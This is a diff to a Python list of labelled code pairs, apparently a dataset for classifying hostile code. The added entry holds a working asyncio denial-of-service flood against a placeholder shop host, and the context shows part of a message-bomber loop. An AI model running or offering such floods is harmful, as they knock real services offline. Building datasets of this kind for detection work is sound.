@@ -280,6 +280,16 @@ PAIRS = [
      "from senders import All\nphone_number = input('phone: ')\nwhile True:\n    for i in range(len(All)):\n"
      "        All[i][1].send(phone_number)",
      "from senders import All\nfor i in range(len(All)):\n    All[i][1].send(All[i][2])"),
+    ("flood: asyncio connections opened and written by a thousand tasks, never read", "dos_attack",
+     "import asyncio\nasync def worker(host, stop):\n    while not stop.is_set():\n"
+     "        r, w = await asyncio.open_connection(host, 80)\n        for _ in range(100):\n"
+     "            w.write(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\n            await w.drain()\n"
+     "async def main():\n    stop = asyncio.Event()\n    for _ in range(1000):\n"
+     "        asyncio.create_task(worker('shop.example.com', stop))\n    await asyncio.sleep(60)\n    stop.set()\n"
+     "asyncio.run(main())",
+     "import asyncio\nasync def follow(host):\n    while True:\n        r, w = await asyncio.open_connection(host, 6667)\n"
+     "        w.write(b'JOIN #lab\\r\\n')\n        while line := await r.readline():\n            print(line)\n"
+     "asyncio.run(follow('irc.example.org'))"),
     ("server: an asyncio CONNECT relay on every interface", "proxy_tunnel",
      "import asyncio\nasync def pipe(r, w):\n    while data := await r.read(65536):\n        w.write(data)\n"
      "async def handle(reader, writer):\n    method, where, _ = (await reader.readline()).decode().split()\n"
